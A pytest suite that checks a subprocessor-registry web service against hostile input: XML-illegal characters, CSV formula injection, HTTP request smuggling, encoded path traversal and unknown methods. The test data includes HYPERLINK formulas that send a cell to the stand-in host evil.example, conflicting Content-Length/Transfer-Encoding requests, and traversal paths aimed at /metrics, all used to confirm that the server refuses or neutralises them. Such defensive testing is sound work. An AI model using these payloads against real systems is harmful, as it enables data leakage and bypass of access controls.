"""Hostile input (issue 16): text the public forms cannot carry, request
smuggling, CSV formulas, percent-encoded paths, problem `instance`s, non-ASCII
URLs and methods civetweb does not know.

The publishing tests run on the module's own stack (`hostile_server`):
publications are global to a database.
"""

import csv
import io
import json
import socket

import pytest
import requests
from lxml import etree, html as lxml_html

from helpers import (
    PUBLIC,
    assert_problem,
    assert_status,
    assert_validation,
    describe,
    media_type,
    sp_body,
    unique_name,
    wait_until,
)
from readers import as_text, lf_line_breaks, spreadsheet_cells
from stack import own_stack

SP = "/v1/subprocessors"
PUBS = "/v1/publications"
FEED = "/public/v1/subprocessors/feed.atom"
PAGE = "/subprocessors"
# XML 1.0 refuses these (C0 controls but TAB/LF/CR, U+FFFE, U+FFFF)
XML_ILLEGAL = ["\x01", "\x0b", "\x1f", "\ufffe", "\uffff"]


@pytest.fixture(scope="module")
def hostile_server(binaries, keys, tokens):
    with own_stack(binaries, keys, tokens, "hostile") as srv:
        yield srv


def raw_exchange(port, data, timeout=10):
    """Sends raw bytes; returns everything the server sends until it closes
    the connection (or goes quiet for a second)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    s.sendall(data)
    s.settimeout(1.5)
    got = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += chunk
    except socket.timeout:
        pass
    finally:
        s.close()
    return got


def responses_in(data):
    """The status codes of the HTTP responses in a byte stream."""
    return [int(line.split(b" ", 2)[1]) for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.")]


def first_response(data):
    head, _, rest = data.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(b":")
        headers[name.strip().lower().decode()] = value.strip().decode()
    body = rest[: int(headers.get("content-length", len(rest)))]
    return int(lines[0].split(b" ", 2)[1]), headers, body


def publish(srv, api, sp_id):
    """Publishes now; returns when the public list (and so every form of the
    snapshot) shows sp_id."""
    resp = api.post(PUBS, {"summary": {"de": "Änderung", "en": "Change"}})
    assert_status(resp, 201)
    wait_until(lambda: any(i["id"] == sp_id for i in requests.get(srv.url + PUBLIC, timeout=10).json()["items"]),
               10, interval=0.1, message="the public list to show the new version")


# ---------------------------------------------------------------------------
# 1. text XML 1.0 cannot carry


@pytest.mark.parametrize("char", XML_ILLEGAL, ids=[f"U+{ord(c):04X}" for c in XML_ILLEGAL])
@pytest.mark.parametrize("where,pointer", [
    ("legal_name", "/legal_name"),
    ("purpose", "/purpose/en"),
    ("email", "/privacy_contact/email"),
])
def test_xml_illegal_code_points_are_refused(admin, char, where, pointer):
    body = sp_body(legal_name=unique_name("Illegal"))
    if where == "legal_name":
        body["legal_name"] += char
    elif where == "purpose":
        body["purpose"]["en"] = "Hosting" + char + "and more"
    else:
        body["privacy_contact"]["email"] = f"dpo{char}@example.org"
    assert_validation(admin.post(SP, body), pointer)


def test_xml_illegal_code_points_are_refused_in_a_patch(admin):
    sp = admin.create_sp(sp_body(legal_name=unique_name("Patched")))
    path = f"{SP}/{sp['id']}"
    assert_validation(admin.patch(path, {"trading_name": "A\ufffeB"}, if_match=1), "/trading_name")
    assert admin.get_sp(sp["id"])["version"] == 1  # nothing changed


@pytest.mark.parametrize("escape", ["\\ud800", "\\udfff", "\\ud800x"])
def test_lone_surrogate_escapes_are_refused(admin, escape):
    raw = json.dumps(sp_body(legal_name="X")).replace('"legal_name": "X"', f'"legal_name": "A{escape}"')
    resp = admin.request("POST", SP, data=raw.encode(), content_type="application/json")
    assert_problem(resp, 400, "malformed-request")


def test_stored_illegal_text_keeps_every_public_form_valid(hostile_server):
    """A string stored before the check (planted in the database) is shown with
    U+FFFD in its place: the Atom feed is still XML, the page still HTML, the
    CSV and JSON still parse."""
    import pymongo
    api = hostile_server.api(roles=["admin"])
    sp = api.create_sp(sp_body(legal_name=unique_name("Planted"), status="active"))
    bad_name = "Bad\ufffeName\uffff\x01<&>"
    db = pymongo.MongoClient(hostile_server.db.uri)["subreg_test"]
    res = db.subprocessors.update_one({"_id": sp["id"]}, {"$set": {
        "legal_name": bad_name, "purpose.en": "Tab\tok, vertical\x0btab not", "trading_name": "\x1b[31m"}})
    assert res.modified_count == 1
    publish(hostile_server, api, sp["id"])
    srv = hostile_server
    feed = requests.get(srv.url + FEED, timeout=10)
    assert_status(feed, 200)
    root = etree.fromstring(feed.content)  # raises on XML 1.0 violations
    text = "".join(root.itertext())
    assert "Bad\ufffdName\ufffd\ufffd<&>" in text, text[:2000]

    page = requests.get(srv.url + PAGE, params={"lang": "en"}, timeout=10)
    assert_status(page, 200)
    doc = lxml_html.fromstring(page.content)
    cell = doc.xpath(f'//tr[@data-id="{sp["id"]}"]/th')[0].text_content()
    assert "Bad\ufffdName\ufffd\ufffd<&>" in cell, cell
    purpose = doc.xpath(f'//tr[@data-id="{sp["id"]}"]/td')[0].text_content()
    assert purpose == "Tab\tok, vertical\ufffdtab not", purpose
    for ch in XML_ILLEGAL + ["\x1b"]:
        assert ch not in page.text

    body = requests.get(srv.url + PUBLIC, timeout=10)
    assert_status(body, 200)
    item = next(i for i in body.json()["items"] if i["id"] == sp["id"])
    assert item["legal_name"] == "Bad\ufffdName\ufffd\ufffd<&>", item
    assert item["trading_name"] == "\ufffd[31m", item
    for ch in XML_ILLEGAL + ["\x1b"]:
        assert ch not in body.text and json.dumps(ch)[1:-1] not in body.text

    for lang in ("de", "en"):
        resp = requests.get(srv.url + PUBLIC, params={"format": "csv", "lang": lang}, timeout=10)
        assert_status(resp, 200)
        rows = list(csv.DictReader(io.StringIO(resp.text)))
        row = next(r for r in rows if r["id"] == sp["id"])
        assert row["legal_name"] == "Bad\ufffdName\ufffd\ufffd<&>", row
        for ch in XML_ILLEGAL + ["\x1b"]:
            assert ch not in resp.text

    # the versions list and a version's detail are JSON forms too
    versions = requests.get(srv.url + "/public/v1/subprocessors/versions", timeout=10)
    assert_status(versions, 200)
    assert "\ufffe" not in versions.text


# ---------------------------------------------------------------------------
# 3. CSV formulas (OWASP: = + - @ TAB CR as the first character)


DANGEROUS = ["=", "+", "-", "@", "\t", "\r", " =", "  @"]


def test_csv_cells_never_start_a_formula(hostile_server):
    """Every cell whose text would start (after spaces) with one of OWASP's
    characters starts with the neutralising apostrophe instead; opened by a
    real spreadsheet (LibreOffice, readers.py), no cell is a formula and every
    cell holds the text Python's csv module reads (a CR as LF). The same reader turns a cell
    without the apostrophe into a formula, so the check can fail."""
    api = hostile_server.api(roles=["admin"])
    made = {}
    for i, lead in enumerate(DANGEROUS):
        # a name is a one-line field (no TAB, no CR): those two go into the purpose only
        name = unique_name(f"CSV {i}") if lead in ("\t", "\r") else lead + unique_name(f"CSV {i}")
        purpose = f"{lead}HYPERLINK(\"http://evil.example/?x=\"&A1)"
        sp = api.create_sp(sp_body(legal_name=name, status="active",
                                   purpose={"de": purpose, "en": purpose}))
        made[sp["id"]] = (name, purpose)
    publish(hostile_server, api, sp["id"])
    served, parsed = {}, {}
    for lang in ("de", "en"):
        resp = requests.get(hostile_server.url + PUBLIC, params={"format": "csv", "lang": lang}, timeout=10)
        assert_status(resp, 200)
        served[lang] = resp.content
        rows = parsed[lang] = list(csv.reader(io.StringIO(resp.text, newline="")))
        header, rows = rows[0], rows[1:]
        seen = 0
        for r, row in enumerate(rows, start=1):
            rec = dict(zip(header, row))
            if rec["id"] in made:
                seen += 1
                name, purpose = made[rec["id"]]
                for col, want in (("legal_name", name), ("purpose", purpose)):
                    if want.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert rec[col] == "'" + want, (col, rec[col], want)
            for c, value in enumerate(row, start=1):
                assert value.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), (r, c, value)
        assert seen == len(made)
    raw = 'id,legal_name\r\nsp_1,"=HYPERLINK(""http://evil.example/"",""x"")"\r\n'.encode()
    sheets = spreadsheet_cells({**served, "unneutralised": raw})
    assert sheets["unneutralised"][1][1][1] == "f", "LibreOffice evaluates formulas in CSV"
    for lang in ("de", "en"):
        cells = sheets[lang]
        formulas = [(r, c, v) for r, row in enumerate(cells) for c, (v, t) in enumerate(row) if t == "f"]
        assert not formulas, f"{lang}: formulas in LibreOffice: {formulas}"
        assert as_text(cells) == lf_line_breaks(parsed[lang])


# ---------------------------------------------------------------------------
# 2. request smuggling: two lengths, or a length beside Transfer-Encoding

SMUGGLED = b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"


@pytest.mark.parametrize("headers", [
    b"Content-Length: 0\r\nContent-Length: %d\r\n",
    b"Content-Length: %d\r\ncontent-length: %d\r\n",
    b"content-length: 0\r\nCONTENT-LENGTH :   %d  \r\n",
    b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: chunked\r\ncontent-LENGTH: %d\r\n",
    b"Content-Length: 0, %d\r\n",
    b"Content-Length: +%d\r\n",
], ids=["two", "same-value-other-case", "whitespace", "cl-and-te", "te-and-cl", "list", "sign"])
@pytest.mark.parametrize("path", [b"/healthz", b"/no/such/path", b"/v1/subprocessors"])
def test_ambiguous_framing_is_refused_and_closes(server, headers, path):
    n = len(SMUGGLED)
    block = headers.replace(b"%d", str(n).encode())
    method = b"POST" if path == b"/v1/subprocessors" else b"GET"
    data = raw_exchange(server.port, method + b" " + path + b" HTTP/1.1\r\nHost: x\r\n" + block + b"\r\n" + SMUGGLED)
    assert responses_in(data) == [400], data[:2000]
    status, hdrs, body = first_response(data)
    assert hdrs.get("connection", "").lower() == "close", hdrs
    assert hdrs["content-type"] == "application/problem+json", hdrs
    problem = json.loads(body)
    assert problem["type"] == "/problems/malformed-request" and problem["status"] == 400, problem


def test_one_content_length_still_works_on_a_kept_connection(server):
    import http.client
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=10)
    for _ in range(2):
        conn.request("GET", "/healthz", headers={"Content-Length": "0"})
        resp = conn.getresponse()
        resp.read()
        assert resp.status == 200 and resp.getheader("Connection") == "keep-alive"
    conn.close()


# ---------------------------------------------------------------------------
# 5. percent-decoded paths, %00


@pytest.mark.parametrize("path", [
    "/public/..%2fmetrics", "/public/..%2Fmetrics", "/public%2fv1/subprocessors",
    "/public/%2e%2e/metrics", "/public/%2E./metrics", "/public/.%2e/metrics", "/public/../metrics",
    "/public/./v1/subprocessors", "/healthz/.", "/healthz/%2e", "/healthz%00", "/healthz%00.json",
    "/v1/subprocessors/%00",
])
def test_encoded_slashes_dot_segments_and_nul_in_paths_are_400(server, path):
    data = raw_exchange(server.port, f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    status, hdrs, body = first_response(data)
    assert status == 400, data[:1000]
    problem = json.loads(body)
    assert problem["type"] == "/problems/malformed-request", problem
    assert b"# TYPE" not in data  # never /metrics


@pytest.mark.parametrize("query", ["status=active%00", "status=active%00x", "st%00atus=active", "%00=1"])
def test_nul_in_the_query_is_400(reader, query):
    resp = reader.get(f"{SP}?{query}")
    body = assert_problem(resp, 400, "malformed-request")
    assert "%00" in body["detail"], body


def test_encoded_ordinary_characters_still_route(reader, server):
    assert_status(reader.get("/v1/%73ubprocessors"), 200)  # %73 = "s"
    assert_status(requests.get(server.url + "/heal%74hz", timeout=10), 200)
    assert_status(reader.get(f"{SP}?st%61tus=active"), 200)


# ---------------------------------------------------------------------------
# 6. `instance` is the path as received: a valid URI reference


def test_problem_instance_is_the_path_as_received(server, reader):
    resp = requests.get(server.url + "/no%20such/pf%C3%A4d", timeout=10)
    body = assert_problem(resp, 404, "not-found")
    assert body["instance"] == "/no%20such/pf%C3%A4d", body
    # characters a URI may not hold, sent raw (civetweb lets them through; it
    # refuses raw non-ASCII bytes itself), arrive percent-encoded in instance
    data = raw_exchange(server.port, b'GET /no/such/a"b<c{d|e%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n')
    status, _, raw_body = first_response(data)
    assert status == 404, data[:500]
    assert json.loads(raw_body)["instance"] == "/no/such/a%22b%3Cc%7Bd%7Ce%25zz"
    # the same inside a registry path, on a validation error
    resp = reader.get(f"{SP}/sp%20x%C3%A4")
    assert resp.status_code in (400, 404), describe(resp)
    assert resp.json()["instance"] == "/v1/subprocessors/sp%20x%C3%A4", describe(resp)


# ---------------------------------------------------------------------------
# 7. URL fields are ASCII (format: uri)


@pytest.mark.parametrize("url", ["https://Ï", "https://bücher.example/privacy", "https://example.com/pfäd",
                                 "https://example.com/?q=ä"])
def test_non_ascii_urls_are_refused(admin, url):
    assert_validation(admin.post(SP, sp_body(legal_name=unique_name("Url"), website=url)), "/website")


def test_punycode_and_percent_encoded_urls_are_accepted(admin):
    admin.create_sp(sp_body(legal_name=unique_name("Url"), website="https://xn--bcher-kva.example/pf%C3%A4d"))


# ---------------------------------------------------------------------------
# 9. methods civetweb does not know


@pytest.mark.parametrize("method", [b"TRACE", b"COPY", b"MOVE", b"SEARCH", b"FOO", b"get"])
def test_unknown_methods_are_405_with_allow(server, method):
    data = raw_exchange(server.port, method + b" /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
    status, hdrs, body = first_response(data)
    assert status == 405, data[:1000]
    assert hdrs["content-type"] == "application/problem+json", hdrs
    assert hdrs.get("allow") == "GET, HEAD", hdrs
    problem = json.loads(body)
    assert problem["type"] == "/problems/method-not-allowed" and problem["instance"] == "/healthz", problem


def test_unknown_method_on_an_unknown_path_is_404(server):
    data = raw_exchange(server.port, b"TRACE /no/such HTTP/1.1\r\nHost: x\r\n\r\n")
    status, hdrs, body = first_response(data)
    assert status == 404 and json.loads(body)["type"] == "/problems/not-found", data[:1000]


@pytest.mark.parametrize("method", [b"PROPFIND", b"MKCOL", b"LOCK", b"UNLOCK", b"PROPPATCH", b"REPORT",
                                    b"CONNECT", b"PUT", b"PATCH"])
def test_methods_civetweb_knows_are_405_with_allow(server, method):
    data = raw_exchange(server.port, method + b" /v1/subprocessors HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
                                              b"Connection: close\r\n\r\n")
    status, hdrs, body = first_response(data)
    assert status == 405, data[:1000]
    assert hdrs.get("allow") == "GET, HEAD, POST", hdrs
    assert json.loads(body)["type"] == "/problems/method-not-allowed"


def test_a_malformed_request_line_stays_400(server):
    for raw in (b"TRACE / FOO/1.1\r\n\r\n", b"TRACE /healthz 1.1\r\n\r\n", b"T@ACE /healthz HTTP/1.1\r\n\r\n"):
        status, hdrs, body = first_response(raw_exchange(server.port, raw))
        assert status == 400, raw
        assert json.loads(body)["type"] == "/problems/malformed-request"


# ---------------------------------------------------------------------------
# 4. rate-limit buckets: two addresses hashing to one slot


def _fnv1a(text):
    h = 2166136261
    for b in text.encode():
        h = ((h ^ b) * 16777619) & 0xFFFFFFFF
    return h


def colliding_loopback_pair(slots=4096):
    """Two loopback addresses whose FNV-1a hashes share a slot of the old
    4,096-slot table (and so a set of the present one)."""
    seen = {}
    for third in range(0, 256):
        for fourth in range(2, 255):
            ip = f"127.0.{third}.{fourth}"
            slot = _fnv1a(ip) % slots
            if slot in seen:
                return seen[slot], ip
            seen[slot] = ip
    raise AssertionError("no colliding pair")


def test_colliding_addresses_get_no_extra_requests(make_server):
    import http.client
    srv = make_server(extra_env={"SUBREG_RATE_LIMIT_EXEMPT": "", "SUBREG_PUBLIC_RATE_PER_MIN": "60"})
    a, b = colliding_loopback_pair()
    conns = {ip: http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10, source_address=(ip, 0))
             for ip in (a, b)}
    statuses = {a: [], b: []}
    for i in range(60):
        ip = a if i % 2 == 0 else b
        conns[ip].request("GET", PAGE)
        resp = conns[ip].getresponse()
        resp.read()
        statuses[ip].append(resp.status)
    for ip, got in statuses.items():
        assert set(got) <= {200, 429, 503}, got
        # a burst of 10 and one more a second at 60/min: never 30 of 30
        assert got.count(200) <= 15, (ip, got)
        assert 429 in got, (ip, got)
